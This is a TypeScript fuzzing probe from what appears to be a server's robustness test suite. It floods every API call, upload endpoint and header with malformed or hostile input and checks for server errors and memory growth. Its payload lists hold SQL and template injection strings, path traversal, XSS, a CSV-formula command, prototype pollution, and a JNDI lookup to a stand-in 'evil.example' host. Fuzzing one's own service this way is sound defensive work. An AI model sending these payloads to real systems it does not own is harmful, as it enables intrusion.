import { randomInt } from 'node:crypto';
import { uploadDoors } from '#server-kit/model';
import { isIdentityCode } from '#calls/model';
import { attacked } from '../all-calls.ts';
import { made, mutated, schemaOf, type TextFor } from '../made-request.ts';
import {
  ask,
  codeOf,
  knock,
  make,
  memoryOf,
  type Attacked,
  type Probe,
  type Reply,
  type Target,
} from '../probe.ts';

const nasty: readonly unknown[] = [
  ...[null, true, false, 0, -1, 1e308, -0, 0.1, 2 ** 53, NaN, '', ' ', '\u0000', 'a\u0000b', '\ud800'],
  ...['😀'.repeat(50), 'constructor', '__proto__', 'toString', "'; DROP TABLE form; --", '${7*7}', '{{7*7}}'],
  ...['../../etc/passwd', '%00', '<img src=x onerror=alert(1)>', 'javascript:alert(1)', '=cmd|calc'],
  ...['9'.repeat(400), '1e999', '-Infinity', '2026-02-30', '9999-12-31', '0000-00-00', 'x'.repeat(20_000)],
  ...['00000000-0000-0000-0000-000000000000', [], {}, [[[[]]]], { length: 1e9 }, ['a', 1, null]],
  ...[{ __proto__: null }, { $ne: null }, { toString: 1 }, Array.from({ length: 5_000 }, () => 'a')],
];
/** Where records are that calls name, and how many of each are tried. */
const known: readonly [table: string, most: number][] = [
  ['form', 40],
  ['approval_task', 20],
  ['file', 10],
  ['message', 5],
  ['person', 10],
  ['department', 5],
  ['account', 3],
  ['supplier', 5],
  ['customer', 5],
  ['item', 5],
  ['warehouse', 3],
  ['task', 10],
  ['project', 5],
];

const pick = <T>(from: readonly T[]): T => from[randomInt(from.length)] as T;

/** Values of headers that a client may get wrong, or means ill. */
const headers: readonly [string, string][] = [
  ['accept-language', 'x'.repeat(300)],
  ['accept-language', 'zh;q=1,,;;,en;q=abc'],
  ['x-language', '../../etc'],
  ['authorization', 'Bearer'],
  ['authorization', `Basic ${'A'.repeat(2_000)}`],
  ['x-forwarded-for', "127.0.0.1, '; --"],
  ['x-forwarded-host', 'evil.example'],
  ['x-http-method-override', 'DELETE'],
  ['content-type', 'application/json; charset=utf-7'],
  ['content-type', 'multipart/form-data'],
  ['if-none-match', '*'.repeat(500)],
  ['range', 'bytes=0-,-1,5-2'],
  ['user-agent', '\t'],
  ['cookie', 'a=b; '.repeat(200)],
  ['x-request-id', '${jndi:ldap://evil.example/a}'],
];

/** A request in the shape of its call, one value wrong; or the shape alone; or no shape at all. */
function randomInput(call: Attacked, text: TextFor): unknown {
  const input = made(schemaOf(call), text);
  const way = Math.random();
  if (way < 0.15) return input;
  return way < 0.85
    ? mutated(input, pick(nasty))
    : { [pick(['id', 'page', 'values', 'lines'])]: pick(nasty) };
}

/** What is hardly JSON, at the generic door. */
function brokenBody(codes: readonly string[]): string {
  const text = JSON.stringify({ code: Math.random() < 0.5 ? pick(codes) : pick(nasty), id: pick(nasty) });
  return pick([
    text.slice(0, randomInt(text.length)),
    '['.repeat(2_000) + ']'.repeat(2_000),
    '{"__proto__":{"admin":true},"code":"REQ110P_1"}',
    `${text}${text}`,
    `\ufeff${text}`,
    text.replaceAll('"', "'"),
  ]);
}

/** A file that is noise, under a name that is trouble, in a form that may be broken. */
function randomUpload(target: Target, token: Record<string, string>): Promise<Reply> {
  const { method, path } = pick([uploadDoors.putFile, uploadDoors.putZip, uploadDoors.putScreenshot]);
  const bytes = Buffer.from(Array.from({ length: randomInt(600) }, () => randomInt(256)));
  const name = pick([
    'a.png',
    'a.pdf',
    '../a.docx',
    'a',
    '.',
    '',
    'CON.txt',
    '\u202egnp.exe',
    'x'.repeat(400),
    'a.txt',
  ]);
  const start = pick([
    Buffer.alloc(0),
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    Buffer.from('PK\x03\x04'),
    Buffer.from('%PDF-'),
  ]);
  const boundary = pick(['x', '--', 'a b']);
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\n\r\n`),
    start,
    bytes,
    Buffer.from(pick([`\r\n--${boundary}--\r\n`, `\r\n--${boundary}\r\n`, ''])),
  ]);
  return ask(target, path + pick(['', '?use=image', '?use=__proto__', '?use=a&use=b']), {
    method,
    headers: { ...token, 'content-type': `multipart/form-data; boundary=${boundary}` },
    body,
  });
}

export const randomBodies: Probe = {
  name: 'random and mutated bodies, headers and files at every call',
  promise: 'no error of the system, memory steady',
  async run(target, size) {
    const times = Math.max(400, Math.round(100_000 * size));
    const calls = attacked();
    const codes = calls.flatMap(({ code }) => code ?? []);
    // Records that are there: what names one goes on to the work behind it.
    const there = await target.query<{ id: string }>(
      known
        .map(([table, most]) => `(SELECT id::text FROM ${table} ORDER BY random() LIMIT ${most})`)
        .join(' UNION ALL '),
    );
    const text: TextFor = (_, name) =>
      /ids?$|^to$|people/i.test(name) && Math.random() < 0.7 ? pick(there).id : undefined;
    const tokens = [target.token, target.administrator.token, null];
    const faults = new Map<string, number>();
    const statuses = new Map<number, number>();
    let [sent, settled, done, shutOut] = [0, 0, 0, 0];
    const one = async (): Promise<[string, Reply]> => {
      const token = pick(tokens);
      const own: Record<string, string> = token ? { 'access-token': token } : {};
      const way = Math.random();
      if (way < 0.05) return ['upload', await randomUpload(target, own)];
      if (way < 0.12) return ['broken', await knock(target, brokenBody(codes), own)];
      const call = pick(calls);
      const input = randomInput(call, text);
      const more = Math.random() < 0.15 ? Object.fromEntries([pick(headers)]) : {};
      const reply = await make(target, call, input, { ...more, ...own });
      if (codeOf(reply) === 0) done++;
      if (token && isIdentityCode(codeOf(reply) ?? 0)) shutOut++;
      return [`${call.name} ${JSON.stringify(input)?.slice(0, 200)} ${JSON.stringify(more)}`, reply];
    };
    const sender = async (): Promise<void> => {
      while (sent < times) {
        if (++sent === Math.round(times / 5)) settled = memoryOf(target);
        const [what, reply] = await one().catch((error: unknown): [string, Reply] => [
          `no answer: ${String(error)}`,
          { status: 599, text: '', headers: new Headers() },
        ]);
        statuses.set(reply.status, (statuses.get(reply.status) ?? 0) + 1);
        if (reply.status < 500) continue;
        const key = `${what} → ${reply.status} ${reply.text.slice(0, 100)}`;
        faults.set(key, (faults.get(key) ?? 0) + 1);
      }
    };
    await Promise.all(Array.from({ length: 16 }, sender));
    const grown = memoryOf(target) - settled;
    for (const fault of [...faults.keys()].slice(0, 30)) console.log(`  ${fault}`);
    const spread = [...statuses]
      .toSorted()
      .map(([status, count]) => `${status}: ${count}`)
      .join(', ');
    return {
      figures: `${sent} sent to ${calls.length} calls (${spread}), ${done} of them carried out, ${shutOut} for want of a session; ${faults.size} faults; memory grew by ${grown.toFixed(0)} MB after the first fifth`,
      safe: faults.size === 0 && shutOut < sent / 10 && (size < 1 || grown < 300),
    };
  },
};
